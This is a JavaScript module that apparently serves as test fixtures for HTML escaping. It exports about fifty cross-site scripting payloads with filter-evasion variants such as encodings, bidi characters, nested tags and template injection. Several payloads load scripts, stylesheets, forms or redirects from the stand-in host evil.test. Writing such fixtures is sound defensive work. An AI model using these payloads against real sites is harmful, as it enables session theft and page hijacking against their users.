// Texts that would run, lead away or build elements if a page took them for HTML.
// Each calls __xss() or asks another site when it succeeds. None is longer than a
// name may be, so that each can stand wherever people write.

/* eslint-disable no-script-url -- these are what must not be followed */

/** @type {Record<string, string>} */
export const payloads = {
  script: "<script>__xss()</script>",
  "script by src": "<script src=//evil.test/x.js></script>",
  "script in odd letters": "<ScRiPt\t>__xss()</sCrIpT >",
  "script within a script": "<scr<script>ipt>__xss()</scr</script>ipt>",
  "script left open": '"><script>__xss()//',
  "image that fails": "<img src=x onerror=__xss()>",
  "image without blanks": "<img/src=x/onerror=__xss()>",
  "image of another site": "<img src=//evil.test/pixel.gif>",
  "svg that loads": "<svg onload=__xss()>",
  "svg that animates": "<svg><animate onbegin=__xss() attributeName=x dur=1s>",
  "svg with a script": "<svg><script>__xss()</script></svg>",
  "frame with a document": '<iframe srcdoc="<script>parent.__xss()</script>">',
  "frame with a program": "<iframe src=javascript:parent.__xss()>",
  details: "<details open ontoggle=__xss()>",
  "focus by itself": "<input autofocus onfocus=__xss()>",
  link: "javascript:__xss()",
  "link with a tab": "java\tscript:__xss()",
  "link with a newline": "java\nscript:__xss()",
  "link with entities": "&#106;avascript&colon;__xss()",
  "link in odd letters": "JaVaScRiPt:__xss()//https://x.test",
  "link in an anchor": "<a href=javascript:__xss()>https://x.test</a>",
  "data link": "data:text/html,<script>parent.__xss()</script>",
  "end of a text area": "</textarea><script>__xss()</script>",
  "end of a title": "</title><img src=x onerror=__xss()>",
  "end of a script": "</script><script>__xss()</script>",
  "end of a JSON script": '"}</script><svg onload=__xss()>',
  "beginning of a comment": "<!--<script>__xss()</script>-->",
  "end of a comment": "--><img src=x onerror=__xss()>",
  "double quote": '" autofocus onfocus=__xss() x="',
  "single quote": "' autofocus onfocus=__xss() x='",
  "no quote": "x onmouseover=__xss() tabindex=0 autofocus",
  "back quote": "`${__xss()}`",
  "template of Go": "{{__xss()}}{{.}}{{printf `<script>`}}",
  "template of a framework": "{{constructor.constructor('__xss()')()}}",
  "template of a string": "${__xss()}#{__xss()}<%= __xss() %>",
  "noscript that is read twice": "<noscript><p title='</noscript><img src onerror=__xss()>'>",
  "style that is read twice": "<svg><style><img src=x onerror=__xss()></style>",
  "math that is read twice": "<math><mtext><table><mglyph><style><img src onerror=__xss()>",
  "style of another site": "<link rel=stylesheet href=//evil.test/x.css>",
  refresh: "<meta http-equiv=refresh content=0;url=//evil.test/>",
  "form of another site": "</form><form action=//evil.test/><button>Go",
  base: "<base href=//evil.test/>",
  "entities twice": "&amp;lt;script&amp;gt;__xss()&lt;/script&gt;",
  "percent twice": "%253Cscript%253E__xss()%3C/script%3E",
  "escapes of JavaScript": "\\u003cscript\\u003e__xss()\\x3c/script\\x3e",
  "wide brackets": "＜script＞__xss()＜/script＞ ‹script›",
  "right to left": "\u202e<script>__xss()</script>\u202c",
  isolates: "\u2067<img src=x onerror=__xss()>\u2069\u2069\u202d",
  "names of nothing": "null undefined NaN [object Object] __proto__",
  "replaced character": "\ufffd<\u200bscript>__xss()</\u200bscript>",
}

/** What no text may hold. */
export const refused = ["<scr\0ipt>__xss()</script>", "\u001b]8;;javascript:__xss()\u0007x", "a\u0085b"]

/**
 * The same in letters that mean nothing to anybody, for what a page looks like without.
 * @param {string} text
 */
export const harmless = (text) => text.replace(/[^\p{L}\p{N}\s]/gu, "x")
